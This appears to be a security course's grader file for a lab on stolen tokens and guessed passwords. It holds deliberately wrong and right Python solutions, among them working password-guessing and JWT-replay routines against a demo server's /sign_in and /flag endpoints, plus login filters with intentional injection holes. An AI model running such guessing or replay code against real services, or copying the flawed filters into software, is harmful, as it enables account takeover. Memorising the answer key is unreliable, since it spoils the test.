"""Lesson 8, stolen tokens and guessed passwords."""

import base64
import bisect
import collections
import functools
import hashlib
import heapq
import itertools
import json
import re
import string
import unicodedata
import urllib.parse
import urllib.request
from typing import Any

import jwt
import requests

from demo_server.notebook import lesson
from demo_server.notebook.wordlist import words


def read_part(part: str) -> Any:
    return json.loads(base64.urlsafe_b64decode(part + "=" * (-len(part) % 4)))


def sha(text: str) -> str:
    return hashlib.sha256(text.encode("utf-8", "surrogatepass")).hexdigest()


def list_name__wrong_6(token: str) -> str:
    """Breaks "another for every other token": the payload alone, so two headers share a name."""
    return token.split(".")[1]


def list_name__wrong_8(token: str) -> str:
    """Breaks "another for every other token": lower() makes one of tokens that differ in capitals (aaa is YWFh, aaG is YWFH)."""
    return token.rpartition(".")[0].lower()


def list_name__wrong_9(token: str) -> str:
    """Breaks "another for every other token": sixteen bits of a digest are too few."""
    return hashlib.sha256(token.rpartition(".")[0].encode()).hexdigest()[:4]


def list_name__wrong_10(token: str) -> str:
    """Breaks "another for every other token": the first 80 characters, where long tokens do not differ yet."""
    return token.rpartition(".")[0][:80]


def list_name__wrong_11(token: str) -> str:
    """Breaks "however somebody spells its end": only one = is taken off; an HS512 token (86 letters) ends with two where somebody pads it, and PyJWT takes that."""
    return hashlib.sha256(token.removesuffix("=").encode()).hexdigest()


def list_name__wrong_13(token: str) -> str:
    """Breaks "one name for one token": verifies with the lesson's key and its own clock, so every other token, or an old one, raises."""
    claims = jwt.decode(token, lesson.KEY, algorithms=["HS256"])
    return json.dumps(claims, sort_keys=True)


_numbers: dict[str, str] = {}


def list_name__wrong_14(token: str) -> str:
    """Breaks "one name for one token": a number for each text seen, kept between calls."""
    return _numbers.setdefault(token, str(len(_numbers)))


def list_name__wrong_15(token: str) -> str:
    """Breaks "another for every other token": without jti it takes sub and exp, and two sign-ins of one second, or without exp, agree."""
    claims = jwt.decode(token, options={"verify_signature": False, "verify_exp": False})
    return claims.get("jti") or f"{claims.get('sub')}@{claims.get('exp')}"


def list_name__wrong_16(token: str) -> str:
    """Breaks "another for every other token": the claims are the name, and tokens that differ in the header (kid, typ) share it."""
    return json.dumps(read_part(token.split(".")[1]), sort_keys=True)


def list_name__wrong_17(token: str) -> str:
    """Breaks "however somebody spells its end": jti if there is one, else the text with its end."""
    claims = read_part(token.split(".")[1])
    return str(claims["jti"]) if "jti" in claims else token


def list_name__wrong_18(token: str) -> str:
    """Breaks "another for every other token": header and payload with their letters sorted (abcxyz and xyzabc share a name)."""
    return "".join(sorted(token.rpartition(".")[0]))


def list_name__wrong_2(token: str) -> str:
    """Breaks "-> str: Return the name": None where a token has a jti (the branch returns nothing)."""
    if "jti" not in read_part(token.split(".")[1]):
        return token.rpartition(".")[0]


def list_name__right_1(token: str) -> str:
    # right: the signed text itself, no digest
    return token[: token.rindex(".")]


# right: a lambda, BLAKE2
list_name__right_2 = (
    lambda token: hashlib.blake2b(  # noqa: E731
        ".".join(token.split(".")[:2]).encode(), digest_size=32
    ).hexdigest()
)


def list_name__right_3(token: str) -> str:
    # right: very defensive, raises for what no verifier takes
    found = re.fullmatch(r"([A-Za-z0-9_-]+\.[A-Za-z0-9_-]+)\.[A-Za-z0-9_-]+=*", token)
    if not found:
        raise ValueError("not a token")
    return "signed:" + hashlib.sha256(found[1].encode("ascii")).hexdigest()


def _without_end(function: Any) -> Any:
    # right: a decorator with wraps
    @functools.wraps(function)
    def inner(token: str) -> str:
        return function(token.rsplit(".", 1)[0])

    return inner


@_without_end
def list_name__right_4(token: str) -> str:
    # right: decorated
    return base64.b16encode(hashlib.sha512(token.encode()).digest()).decode()


TOKEN = r"eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*"


def cut_tokens__wrong_1(line: str) -> str:
    """Breaks hint 3: \\w also fits é and 을, which may follow a token."""
    return re.sub(r"eyJ[\w-]+\.[\w-]+\.[\w-]*", "[token]", line)


def cut_tokens__wrong_2(line: str) -> str:
    """Breaks "the last, which may be empty": + asks for one letter."""
    return re.sub(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", "[token]", line)


def cut_tokens__wrong_7(line: str) -> str:
    """Breaks "A token begins with `eyJ`" and no more is said: asks for eyJ in the second part as well (a payload may begin otherwise)."""
    return re.sub(r"eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*", "[token]", line)


def cut_tokens__wrong_8(line: str) -> str:
    """Breaks "letters from A to Z and a to z": [A-z] fits [ \\ ] ^ and ` too."""
    return re.sub(r"eyJ[A-z0-9-]+\.[A-z0-9-]+\.[A-z0-9-]*", "[token]", line)


def cut_tokens__wrong_10(line: str) -> str:
    """Breaks "A token begins with `eyJ`": capitals are overlooked, so EYJ and eyj begin one."""
    return re.sub(TOKEN, "[token]", line, flags=re.IGNORECASE)


def cut_tokens__wrong_11(line: str) -> str:
    """Breaks "digits, `-` and `_`": no - in the class, so a token with one stays or is cut in half."""
    return re.sub(r"eyJ[A-Za-z0-9_]+\.[A-Za-z0-9_]+\.[A-Za-z0-9_]*", "[token]", line)


def cut_tokens__wrong_14(line: str) -> str:
    """Breaks "every other character as it was": takes = behind the token along."""
    return re.sub(TOKEN + "=*", "[token]", line)


def cut_tokens__wrong_15(line: str) -> str:
    """Breaks "three parts": the last part may hold dots here, so words behind a dot are cut, too."""
    return re.sub(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_.-]*", "[token]", line)


def cut_tokens__wrong_16(line: str) -> str:
    """Breaks "in place of each token": the last part is lazy and takes nothing, the signature stays."""
    return re.sub(r"eyJ[A-Za-z0-9_-]+?\.[A-Za-z0-9_-]+?\.[A-Za-z0-9_-]*?", "[token]", line)


def cut_tokens__wrong_17(line: str) -> str:
    """Breaks "in place of each token": replaces found texts one by one, so one that begins like another leaves a rest."""
    for token in re.findall(TOKEN, line):
        line = line.replace(token, "[token]")
    return line


def cut_tokens__wrong_18(line: str) -> str:
    """Breaks "every other character as it was": strips the line end."""
    return re.sub(TOKEN, "[token]", line).strip()


def cut_tokens__wrong_19(line: str) -> str:
    """Breaks "A token begins with `eyJ`": ey is enough here, and eyes.are.open is cut."""
    return re.sub(r"ey[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]*", "[token]", line)


def cut_tokens__wrong_21(line: str) -> str:
    """Breaks "It has three parts": real tokens are long, so parts under ten letters are left (the docstring's, too)."""
    return re.sub(r"eyJ[A-Za-z0-9_-]{7,}\.[A-Za-z0-9_-]{10,}\.[A-Za-z0-9_-]*", "[token]", line)


def cut_tokens__wrong_23(line: str) -> str:
    """Breaks "every other character as it was": splitlines and join turn \\r, \\f or U+2028 into \\n and lose the last line end."""
    return "\n".join(re.sub(TOKEN, "[token]", part) for part in line.splitlines())


def cut_tokens__right_1(line: str) -> str:
    # right: \w with re.ASCII, verbose
    form = re.compile(
        r"""eyJ [\w-]*  \.   # header
            [\w-]+      \.   # payload
            [\w-]*           # signature, or none""",
        re.ASCII | re.VERBOSE,
    )
    return form.sub("[token]", line)


_LETTERS = frozenset(string.ascii_letters + string.digits + "-_")


def cut_tokens__right_3(line: str) -> str:
    # right: by hand, letter by letter, no regular expression
    def run(at: int) -> int:
        while at < len(line) and line[at] in _LETTERS:
            at += 1
        return at

    out, at = [], 0
    while at < len(line):
        if line.startswith("eyJ", at):
            first = run(at)
            if line[first : first + 1] == ".":
                second = run(first + 1)
                if second > first + 1 and line[second : second + 1] == ".":
                    out.append("[token]")
                    at = run(second + 1)
                    continue
        out.append(line[at])
        at += 1
    return "".join(out)


def cut_tokens__right_4(line: str) -> str:
    # right: recursion over re.search
    found = re.search(TOKEN, line)
    if found is None:
        return line
    return line[: found.start()] + "[token]" + cut_tokens__right_4(line[found.end() :])


def cut_tokens__right_5(line: str) -> str:
    # right: finditer from behind
    for found in reversed(list(re.finditer(TOKEN, line))):
        line = line[: found.start()] + "[token]" + line[found.end() :]
    return line


def filter_for__wrong_4(sent: object) -> dict[str, str] | None:
    """Breaks "Any text will do, `$ne`" (hint 1): refuses what begins with $."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if not isinstance(name, str) or not isinstance(password, str) or name.startswith("$"):
        return None
    return {"id": name, "pw": sha(password)}


def filter_for__wrong_7(sent: object) -> dict[str, str] | None:
    """Breaks "where both are text": or for and, the other one may be anything."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) or isinstance(password, str):
        return {"id": name, "pw": sha(str(password))}
    return None


def filter_for__wrong_8(sent: object) -> dict[str, str] | None:
    """Breaks "None otherwise": returns an empty filter, which fits every user."""
    if not isinstance(sent, dict):
        return {}
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) and isinstance(password, str):
        return {"id": name, "pw": sha(password)}
    return {}


def filter_for__wrong_12(sent: object) -> dict[str, str] | None:
    """Breaks "its SHA-256 in hex, as published": in capitals."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) and isinstance(password, str):
        return {"id": name, "pw": sha(password).upper()}
    return None


def filter_for__wrong_13(sent: object) -> dict[str, str] | None:
    """Breaks "Return the filter for what was sent": strips and lowers the id."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) and isinstance(password, str):
        return {"id": name.strip().lower(), "pw": sha(password)}
    return None


def filter_for__wrong_15(sent: object) -> dict[str, str] | None:
    """Breaks "raise no error": catches AttributeError and KeyError, not the TypeError of null, a number or a list."""
    try:
        return {"id": sent["id_give"] + "", "pw": sha(sent["pw_give"])}
    except (AttributeError, KeyError):
        return None


def filter_for__wrong_17(sent: object) -> dict[str, str] | None:
    """Breaks "for what was sent": changes its argument (pop), so a second call gets None."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.pop("id_give", None), sent.pop("pw_give", None)
    if isinstance(name, str) and isinstance(password, str):
        return {"id": name, "pw": sha(password)}
    return None


def filter_for__wrong_18(sent: object) -> dict[str, str] | None:
    """Breaks "None otherwise": returns the text "None"."""
    if isinstance(sent, dict):
        name, password = sent.get("id_give"), sent.get("pw_give")
        if isinstance(name, str) and isinstance(password, str):
            return {"id": name, "pw": sha(password)}
    return "None"


def filter_for__wrong_19(sent: object) -> dict[str, str] | None:
    """Breaks "as published": SHA-256 of Latin-1 bytes, so é has another digest, and 을 raises."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) and isinstance(password, str):
        return {"id": name, "pw": hashlib.sha256(password.encode("latin-1")).hexdigest()}
    return None


def filter_for__wrong_20(sent: object) -> dict[str, str] | None:
    """Breaks "its SHA-256 in hex": the bytes of the digest."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) and isinstance(password, str):
        return {"id": name, "pw": hashlib.sha256(password.encode("utf-8", "replace")).digest()}
    return None


def filter_for__wrong_21(sent: object) -> dict[str, str] | None:
    """Breaks "what else was sent does not get into the filter": refuses it instead, None where there is a third field."""
    if not isinstance(sent, dict) or set(sent) != {"id_give", "pw_give"}:
        return None
    if all(isinstance(value, str) for value in sent.values()):
        return {"id": sent["id_give"], "pw": sha(sent["pw_give"])}
    return None


def filter_for__wrong_22(sent: object) -> dict[str, str] | None:
    """Breaks "{"id": …, "pw": …}, the password as its SHA-256": the order of what was sent decides which is which."""
    if not isinstance(sent, dict):
        return None
    texts = [v for k, v in sent.items() if k in ("id_give", "pw_give") and isinstance(v, str)]
    if len(texts) != 2:
        return None
    return {"id": texts[0], "pw": sha(texts[1])}


def filter_for__wrong_23(sent: object) -> dict[str, str] | None:
    """Breaks "what was sent" and "as published": NFC first, so e with a combining accent becomes another password."""
    match sent:
        case {"id_give": str(name), "pw_give": str(password)}:
            return {"id": name, "pw": sha(unicodedata.normalize("NFC", password))}
    return None


def filter_for__wrong_24(sent: object) -> dict[str, str] | None:
    """Breaks "where both are text": a number as password counts as text, too (1234 for "1234")."""
    if not isinstance(sent, dict):
        return None
    name, password = sent.get("id_give"), sent.get("pw_give")
    if isinstance(name, str) and isinstance(password, (str, int)):
        return {"id": name, "pw": sha(str(password))}
    return None


def filter_for__right_1(sent: object) -> dict[str, str] | None:
    # right: match
    match sent:
        case {"id_give": str(name), "pw_give": str(password)}:
            return {"id": name, "pw": sha(password)}
    return None


def filter_for__right_2(sent: object) -> dict[str, str] | None:
    # right: try, and + "" as the question whether it is text
    try:
        name, password = "" + sent["id_give"], "" + sent["pw_give"]
    except (TypeError, KeyError, IndexError):
        return None
    digest = hashlib.new("sha256")
    digest.update(password.encode("utf-8", "surrogatepass"))
    return dict(id=name, pw=digest.hexdigest())


# right: a lambda, one conditional expression
filter_for__right_4 = lambda sent: (  # noqa: E731
    {"id": sent["id_give"], "pw": sha(sent["pw_give"])}
    if isinstance(sent, dict) and all(isinstance(sent.get(k), str) for k in ("id_give", "pw_give"))
    else None
)


def wait_before__wrong_1(tries: list[int], now: int) -> int:
    """Breaks "leave out what is 60 seconds old or older" (hint 1): one of exactly 60 seconds counts as the first, so 0 where five later ones stand beside it."""
    recent = sorted(t for t in tries if now - t <= 60)
    if len(recent) < 5:
        return 0
    return max(0, recent[0] + 60 - now)


def wait_before__wrong_2(tries: list[int], now: int) -> int:
    """Breaks "At most five tries": lets a sixth go (> for >=)."""
    recent = sorted(t for t in tries if now - t < 60)
    if len(recent) > 5:
        return recent[-5] + 60 - now
    return 0


def wait_before__wrong_4(tries: list[int], now: int) -> int:
    """Breaks "within 60 seconds": all tries are counted, and old ones give a wait below 0."""
    if len(tries) < 5:
        return 0
    return min(tries) + 60 - now


def wait_before__wrong_6(tries: list[int], now: int) -> int:
    """Breaks "until the first … is 60 seconds old": one second too long."""
    recent = sorted(t for t in tries if now - t < 60)
    return recent[-5] + 61 - now if len(recent) >= 5 else 0


def wait_before__wrong_8(tries: list[int], now: int) -> int:
    """Breaks "five tries": tries of the same second are counted once (a set)."""
    recent = sorted({t for t in tries if now - t < 60})
    return recent[-5] + 60 - now if len(recent) >= 5 else 0


def wait_before__wrong_9(tries: list[int], now: int) -> int:
    """Breaks "in any order": the last five of the list, not the latest five."""
    last = tries[-5:]
    if len(last) < 5:
        return 0
    return max(0, min(last) + 60 - now)


def wait_before__wrong_14(tries: list[int], now: int) -> int:
    """Breaks "`tries` are the moments of the earlier tries": a try at moment 0 does not count (truthiness)."""
    recent = sorted(t for t in tries if t and now - t < 60)
    return recent[-5] + 60 - now if len(recent) >= 5 else 0


def wait_before__wrong_15(tries: list[int], now: int, log: list[int] = []) -> int:
    """Breaks "`tries` are the moments": keeps those of earlier calls in a default list."""
    log.extend(t for t in tries if t not in log)
    recent = sorted(t for t in log if 0 <= now - t < 60)
    return recent[-5] + 60 - now if len(recent) >= 5 else 0


def wait_before__wrong_17(tries: list[int], now: int) -> int:
    """Breaks "none is later than `now`", which allows one at now: leaves tries of this very second out."""
    recent = sorted(t for t in tries if 0 < now - t < 60)
    return recent[-5] + 60 - now if len(recent) >= 5 else 0


def wait_before__wrong_20(tries: list[int], now: int) -> int:
    """Breaks "the first of those five": sorts as text, so 99 comes after 100."""
    recent = sorted((t for t in tries if now - t < 60), key=str)
    return recent[0] + 60 - now if len(recent) >= 5 else 0


def wait_before__wrong_21(tries: list[int], now: int) -> int:
    """Breaks "within 60 seconds": asks whether the last five lie within 60 seconds of each other, not of now, and can go below 0."""
    last = sorted(tries)[-5:]
    if len(last) == 5 and last[4] - last[0] < 60:
        return last[0] + 60 - now
    return 0


def wait_before__right_1(tries: list[int], now: int) -> int:
    # right: the five latest by heapq, no filter
    latest = heapq.nlargest(5, tries)
    return max(0, latest[4] + 60 - now) if len(latest) == 5 else 0


def wait_before__right_2(tries: list[int], now: int) -> int:
    # right: simulation, second by second (slow but correct)
    for wait in itertools.count():
        if sum(now + wait - t < 60 for t in tries) < 5:
            return wait


def wait_before__right_3(tries: list[int], now: int) -> int:
    # right: bisect on a sorted copy
    ordered = sorted(tries)
    recent = ordered[bisect.bisect_right(ordered, now - 60) :]
    return 0 if len(recent) < 5 else 60 - (now - recent[-5])


# right: a lambda, one line
wait_before__right_4 = lambda tries, now: max(  # noqa: E731
    0, ([now - 60] * 5 + sorted(t for t in tries if t > now - 60))[-5] + 60 - now
)


def wait_before__right_5(tries: list[int], now: int) -> int:
    # right: a deque as window; recursion
    window = collections.deque(sorted(tries), maxlen=5)
    if len(window) < 5 or now - window[0] >= 60:
        return 0
    return 1 + wait_before__right_5(list(window), now + 1)


def try_word(url: str, word: str) -> dict[str, Any]:
    form = {"id_give": "erin", "pw_give": word}
    return requests.post(url + "/sign_in", data=form, timeout=10).json()


def flag_of(url: str, token: str) -> str:
    return requests.get(url + "/flag", cookies={"mytoken": token}, timeout=10).json()["msg"]


def flag_by_guessing__wrong_3(url: str) -> str:
    """Breaks "with all its habits" (it takes a form): sends JSON and gets 400."""
    for word in words()[:120]:
        answer = requests.post(url + "/sign_in", json={"id_give": "erin", "pw_give": word})
        if answer.ok and answer.json()["result"] == "success":
            return flag_of(url, answer.json()["token"])
    raise LookupError("no word fits")


def flag_by_guessing__wrong_5(url: str) -> str:
    """Breaks "Return her flag": returns her password."""
    for word in words()[:120]:
        if try_word(url, word)["result"] == "success":
            return word
    return ""


def flag_by_guessing__wrong_7(url: str) -> str:
    """Breaks "among the first 120 words": tries 119 (off by one at the end)."""
    for word in words()[0:119]:
        answer = try_word(url, word)
        if answer["result"] == "success":
            return flag_of(url, answer["token"])
    raise LookupError("no word fits")


def flag_by_guessing__wrong_8(url: str) -> str:
    """Breaks "among the first 120 words": skips the first one."""
    for number in range(1, 121):
        answer = try_word(url, words()[number])
        if answer["result"] == "success":
            return flag_of(url, answer["token"])
    raise LookupError("no word fits")


def flag_by_guessing__wrong_12(url: str) -> str:
    """Breaks "At `/flag`": returns the greeting of /temp."""
    for word in words()[:120]:
        answer = try_word(url, word)
        if answer["result"] == "success":
            return requests.get(url + "/temp", cookies={"mytoken": answer["token"]}).json()["msg"]
    return ""


def flag_by_guessing__wrong_13(url: str) -> str:
    """Breaks "Erin's password is among …": small letters only, so Dragon2026 is never tried."""
    for word in words()[:120]:
        answer = try_word(url, word.lower())
        if answer["result"] == "success":
            return flag_of(url, answer["token"])
    raise LookupError("no word fits")


def flag_by_guessing__wrong_14(url: str) -> str:
    """Breaks "the user erin": Erin with a capital is another id."""
    for word in words()[:120]:
        form = {"id_give": "Erin", "pw_give": word}
        answer = requests.post(url + "/sign_in", data=form).json()
        if answer["result"] == "success":
            return flag_of(url, answer["token"])
    raise LookupError("no word fits")


def flag_by_guessing__wrong_16(url: str) -> str:
    """Breaks "stop when you are in": the inner loop stops, the outer one begins again for each half."""
    flag = ""
    for start in (0, 60):
        for word in words()[start : start + 60]:
            answer = try_word(url, word)
            if answer["result"] == "success":
                flag = flag_of(url, answer["token"])
                break
    return flag


def flag_by_guessing__wrong_18(url: str) -> str:
    """Breaks hint 1 (`result`): looks for the word fail anywhere, and sends the fields in the address, where the server does not read."""
    for word in words()[:120]:
        form = {"id_give": "erin", "pw_give": word}
        answer = requests.post(url + "/sign_in", params=form)
        if answer.ok and "fail" not in answer.text:
            return flag_of(url, answer.json()["token"])
    raise LookupError("no word fits")


def flag_by_guessing__right_1(url: str) -> str:
    # right: one Session, the jar gets the token
    with requests.Session() as session:
        session.trust_env = False
        for word in words():
            form = {"id_give": "erin", "pw_give": word}
            answer = session.post(url + "/sign_in", data=form, timeout=10).json()
            if answer.get("token"):
                session.cookies.set("mytoken", answer["token"])
                return session.get(url + "/flag", timeout=10).json()["msg"]
    raise LookupError("not in the list")


def flag_by_guessing__right_3(url: str) -> str:
    # right: urllib only, recursion
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))

    def guess(left: list[str]) -> str:
        word, *rest = left
        form = urllib.parse.urlencode({"id_give": "erin", "pw_give": word}).encode()
        with opener.open(url + "/sign_in", form, timeout=10) as answer:
            said = json.load(answer)
        return said["token"] if said["result"] == "success" else guess(rest)

    asked = urllib.request.Request(url + "/flag")
    asked.add_header("Cookie", "mytoken=" + guess(list(words()[:120])))
    with opener.open(asked, timeout=10) as answer:
        return json.load(answer)["msg"]


REPLAY = r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+"


def flag_by_replay__wrong_2(url: str, line: str) -> str:
    """Breaks "among other words with dots": the first three parts with dots between, an address or a version."""
    found = re.search(r"[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+", line)
    return flag_of(url, found[0])


def flag_by_replay__wrong_3(url: str, line: str) -> str:
    """Breaks "who knows where": only a whole word between spaces that begins with eyJ."""
    for word in line.split():
        if word.startswith("eyJ"):
            return flag_of(url, word)
    raise LookupError("no token")


def flag_by_replay__wrong_4(url: str, line: str) -> str:
    """Breaks "digits, `-` and `_`" (hint 1): letters and digits only, so a token with - or _ is cut or missed."""
    return flag_of(url, re.search(r"eyJ[A-Za-z0-9]+\.[A-Za-z0-9]+\.[A-Za-z0-9]+", line)[0])


def flag_by_replay__wrong_5(url: str, line: str) -> str:
    """Breaks "three parts of letters, digits, `-` and `_`" (hint 1): \\S+ takes quotes and what follows along."""
    return flag_of(url, re.search(r"eyJ\S+\.\S+\.\S+", line)[0])


def flag_by_replay__wrong_9(url: str, line: str) -> str:
    """Breaks "Return her flag": returns her token."""
    return re.search(REPLAY, line)[0]


def flag_by_replay__wrong_13(url: str, line: str) -> str:
    """Breaks hint 1 (letters, digits, - and _): \\w fits é and 을 too, so a token followed by one is spoilt."""
    return flag_of(url, re.search(r"eyJ[\w-]+\.[\w-]+\.[\w-]+", line)[0])


def flag_by_replay__wrong_14(url: str, line: str) -> str:
    """Breaks "among other words with dots": the longest word with two dots, which may be an address."""
    words_here = re.findall(r"[A-Za-z0-9_.-]+", line)
    return flag_of(url, max((w for w in words_here if w.count(".") == 2), key=len))


def flag_by_replay__wrong_15(url: str, line: str) -> str:
    """Breaks "Somewhere in a log": lowers the line before looking, and base64url knows capitals."""
    return flag_of(url, re.search(REPLAY.lower(), line.lower())[0])


def flag_by_replay__wrong_16(url: str, line: str) -> str:
    """Breaks "three parts … with two dots between" (hint 1): the last part takes dots along, and so the end of a sentence or a host."""
    return flag_of(url, re.search(r"eyJ[A-Za-z0-9_-]+\.[A-Za-z0-9_-]+\.[A-Za-z0-9_.-]+", line)[0])


def flag_by_replay__wrong_17(url: str, line: str) -> str:
    """Breaks hint 1 "A dot is between": unescaped dots fit other characters, so it starts at an eyJ that is no token."""
    return flag_of(url, re.search(r"eyJ[A-Za-z0-9_-]*.[A-Za-z0-9_-]+.[A-Za-z0-9_-]+", line)[0])


_carols: dict[str, str] = {}


def flag_by_replay__wrong_18(url: str, line: str) -> str:
    """Breaks "Its flags, its key … are others each time": keeps the token of the first call."""
    token = _carols.setdefault("token", re.search(REPLAY, line)[0])
    return flag_of(url, token)


def flag_by_replay__right_1(url: str, line: str) -> str:
    # right: every candidate is read, only a JSON header counts
    for candidate in re.findall(r"(?=(" + REPLAY + "))", line):
        try:
            jwt.get_unverified_header(candidate)
        except jwt.InvalidTokenError:
            continue
        return flag_of(url, candidate)
    raise LookupError("no token")


def flag_by_replay__right_2(url: str, line: str) -> str:
    # right: everything else becomes a space; no pattern for the token
    good = frozenset(string.ascii_letters + string.digits + "-_.")
    runs = "".join(c if c in good else " " for c in line).split()
    for run in runs:
        parts = run.split(".")
        for number, part in enumerate(parts[:-2]):
            at = part.find("eyJ")
            if at >= 0 and parts[number + 1] and parts[number + 2]:
                token = ".".join([part[at:], parts[number + 1], parts[number + 2]])
                with requests.Session() as session:
                    session.cookies["mytoken"] = token
                    answer = session.get(url + "/flag", allow_redirects=False, timeout=10)
                if answer.status_code == 200:
                    return answer.json()["msg"]
    raise LookupError("no token")


# right: a lambda, urllib
flag_by_replay__right_3 = lambda url, line: json.load(  # noqa: E731
    urllib.request.build_opener(urllib.request.ProxyHandler({})).open(
        urllib.request.Request(
            url + "/flag", headers={"Cookie": "mytoken=" + re.compile(REPLAY).search(line).group()}
        ),
        timeout=10,
    )
)["msg"]


def flag_by_replay__right_4(url: str, line: str) -> str:
    # right: re.ASCII, header set by hand
    (token,) = set(re.findall(r"eyJ[\w-]+\.[\w-]+\.[\w-]+", line, re.A))
    return requests.get(f"{url}/flag", headers={"Cookie": f"mytoken={token}"}, timeout=10).json()[
        "msg"
    ]
